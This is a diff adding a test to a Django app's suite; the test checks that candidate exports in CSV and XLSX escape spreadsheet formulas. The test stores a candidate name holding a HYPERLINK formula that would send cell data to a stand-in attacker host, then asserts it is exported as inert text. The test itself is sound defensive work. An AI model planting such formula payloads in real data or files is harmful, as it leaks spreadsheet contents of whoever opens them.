@@ -382,3 +382,21 @@ def test_removing_a_rated_skill_asks_first(coordinator_client, program):
     coordinator_client.post(url, {**data, "confirm_removal": "1"})
     assert not program.skills.filter(pk=skills[0].pk).exists()
     assert SkillRating.objects.filter(skill_id=skills[0].pk).count() == 0
+
+
+def test_exports_never_carry_a_live_formula(coordinator_client, program):
+    import io
+
+    import openpyxl
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    CandidateFactory(program=program, full_name=evil)
+    csv_text = (
+        coordinator_client.get(reverse("matching:export", args=[program.pk, "csv"]))
+        .getvalue()
+        .decode("utf-8-sig")
+    )
+    assert "'=HYPERLINK" in csv_text and ',"=HYPERLINK' not in csv_text
+    xlsx = coordinator_client.get(reverse("matching:export", args=[program.pk, "xlsx"]))
+    cell = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue())).worksheets[0]["A2"]
+    assert cell.data_type == "s" and cell.value == "'" + evil
